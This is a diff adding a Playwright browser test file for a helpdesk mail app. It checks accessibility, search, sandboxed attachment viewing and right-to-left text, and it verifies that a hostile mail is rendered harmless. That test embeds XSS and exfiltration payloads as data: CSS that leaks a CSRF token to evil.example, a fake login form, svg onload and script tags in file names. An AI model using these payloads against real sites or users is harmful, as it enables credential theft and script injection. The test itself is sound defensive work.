@@ -1,0 +1,155 @@
+"""The list and a ticket in a real browser: usable by everybody, and harmless whatever a mail holds."""
+
+import re
+import struct
+import zlib
+
+import pytest
+from playwright.async_api import Page, expect
+
+from maildock.flow.context import Context
+from maildock.tables.tenants import Tenant
+from tests.desk import Desk
+from tests.mail import Mail, mail
+from tests.web.browser.axe import violations
+from tests.web.browser.conftest import Browser
+from tests.web.test_pages_sanitise import ATTACKS
+
+pytestmark = pytest.mark.browser
+
+PDF = (
+    b"%PDF-1.1\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
+    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]>>endobj\ntrailer<</Root 1 0 R>>"
+)
+HEBREW = "\u05d4\u05de\u05d3\u05e4\u05e1\u05ea \u05e9\u05d1\u05d5\u05e8\u05d4 (2024)"
+VIOLATIONS = """() => {
+  window.violated = [];
+  document.addEventListener("securitypolicyviolation", event => {
+    window.violated.push(`${event.violatedDirective} ${event.blockedURI}`);
+  });
+}"""
+STEALING = (
+    "<style>input[name=csrf][value^=a]{background:url(https://evil.example/a)}</style>"
+    "<link rel=stylesheet href='https://evil.example/x.css'>"
+    "<p style='background-image:url(https://evil.example/b)'>styled</p>"
+    "<a href='javascript:document.title=1' id=csrf>click me</a><a href='/logout'>or me</a>"
+    "<svg><script>document.title='won'</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>"
+    "<div data-hx-get='/logout' data-hx-trigger=load hx-on:click='alert(1)'>htmx</div>"
+    "<form action='https://evil.example'><input name=password><button>Log in</button></form>"
+)
+
+
+def png(width: int, height: int) -> bytes:
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    rows = b"".join(b"\0" + b"\x20\x80\xf0" * width for _ in range(height))
+    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
+
+
+@pytest.fixture
+def desk(context: Context, tenant: Tenant) -> Desk:
+    return Desk(context, tenant)
+
+
+def full() -> tuple[Mail, ...]:
+    first = mail("Printer on fire", sender="Ada Byron <ada@customer.example>")
+    first = first.html("<p>Help!</p><img src='https://evil.example/1.gif'><blockquote>Earlier</blockquote>")
+    first = first.attach("a.pdf", PDF).attach("a.png", png(60, 40)).attach("a.txt", b"plain <b>text</b>")
+    return (
+        first,
+        mail(text="Again.\n\n> Help!").reply_to(first).attach("b.png", png(60, 40)).attach("a.html", b"<script>"),
+        mail(HEBREW, sender=f"{HEBREW} <dov@customer.example>", text=HEBREW).attach(f"{HEBREW}.pdf", PDF),
+    )
+
+
+async def document(page: Page, name: str) -> str:
+    link = page.get_by_role("link", name=name, exact=True)
+    return str(await link.get_attribute("href"))
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+async def test_axe_finds_nothing_on_any_page(browser: Browser, desk: Desk, scheme: str) -> None:
+    await desk.ingest(*full())
+    page = browser.page
+    await page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
+    await page.goto(f"{browser.origin}/tickets/1")
+    at = await document(page, "a.txt")
+    for path in ("/", "/?q=nothing+like+it", "/?status=closed", "/tickets/1", "/tickets/2", f"{at}/view", "/nowhere"):
+        await page.goto(browser.origin + path)
+        assert await violations(page) == [], path
+    browser.complaints[:] = [said for said in browser.complaints if "404" not in said]
+
+
+async def test_the_list_narrows_while_one_types(browser: Browser, desk: Desk) -> None:
+    await desk.ingest(*full(), mail("Screen"))
+    page = browser.page
+    await page.goto(browser.origin)
+    await page.get_by_role("searchbox").press_sequentially("prin")
+    await expect(page.get_by_role("link", name="Screen")).to_have_count(0)
+    await expect(page.get_by_role("link", name="Printer on fire")).to_be_visible()
+    await expect(page).to_have_url(re.compile(r"\?q=prin$"))
+    await page.reload()
+    await expect(page.get_by_role("searchbox")).to_have_value("prin")
+    await expect(page.get_by_role("link", name="Screen")).to_have_count(0)
+
+
+async def test_documents_are_looked_at_in_a_frame_without_an_origin(browser: Browser, desk: Desk) -> None:
+    await desk.ingest(*full())
+    page = browser.page
+    await page.goto(f"{browser.origin}/tickets/1")
+    paths = [await document(page, name) for name in ("a.txt", "a.png", "a.pdf")]
+    for path in paths:
+        await page.goto(f"{browser.origin}{path}/view")
+        await page.wait_for_load_state("networkidle")
+        frame = page.frames[1]
+        assert frame.url == f"{browser.origin}{path}/content"
+    await page.goto(f"{browser.origin}{paths[0]}/view")
+    await expect(page.frame_locator("iframe").get_by_text("plain <b>text</b>")).to_be_visible()
+    assert await page.frames[1].evaluate("window.origin") == "null"
+    await page.goto(f"{browser.origin}{paths[1]}/view")
+    assert await page.frames[1].evaluate("document.images[0].naturalWidth") == 60
+    # The browser's own reader for PDF is an extension of it.
+    browser.requests[:] = [url for url in browser.requests if not url.startswith("chrome-extension://")]
+
+
+@pytest.mark.parametrize("path", ["/tickets/1", "/tickets/1?pictures=remote"])
+async def test_a_hostile_mail_does_nothing(browser: Browser, desk: Desk, path: str) -> None:
+    hostile = mail("<img src=x onerror=alert(1)>", sender='"<script>alert(1)</script>" <eve@a.example>')
+    hostile = hostile.html(STEALING + "".join(ATTACKS).replace("//evil.example", "https://127.0.0.1:1"))
+    hostile = hostile.attach(
+        "<svg onload=alert(1)>.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
+    )
+    await desk.ingest(hostile.attach('"><script>alert(2)</script>.html', b"<script>alert(3)</script>"))
+    page, alerts = browser.page, list[str]()
+    page.on("dialog", lambda dialog: alerts.append(dialog.message))
+    await page.add_init_script(f"({VIOLATIONS})()")
+    await page.goto(browser.origin + path)
+    await page.wait_for_load_state("networkidle")
+    for summary in await page.locator("summary").all():
+        await summary.click()
+    assert await page.evaluate("window.violated") == []
+    assert "won" not in await page.title()
+    assert await page.locator(".mail :is(script, style, form, input, button, svg, iframe, [style], [id])").count() == 0
+    assert await page.locator(".mail a:not([href^='https:'])[href]").count() == 0
+    assert alerts == []
+    assert (await page.request.get(f"{browser.origin}/mail", max_redirects=0)).status == 200
+
+
+async def test_right_to_left_text_keeps_to_itself(browser: Browser, desk: Desk) -> None:
+    await desk.ingest(*full())
+    page = browser.page
+    await page.goto(browser.origin)
+    subject = page.get_by_text(HEBREW).first
+    assert await subject.evaluate("element => getComputedStyle(element).direction") == "rtl"
+    assert await page.evaluate("getComputedStyle(document.body).direction") == "ltr"
+
+
+async def test_the_same_file_unfolds(browser: Browser, desk: Desk) -> None:
+    await desk.ingest(*full())
+    page = browser.page
+    await page.goto(f"{browser.origin}/tickets/1")
+    await expect(page.get_by_role("link", name="b.png")).to_be_hidden()
+    await page.get_by_text("Came 2 times").click()
+    await expect(page.get_by_role("link", name="b.png")).to_be_visible()
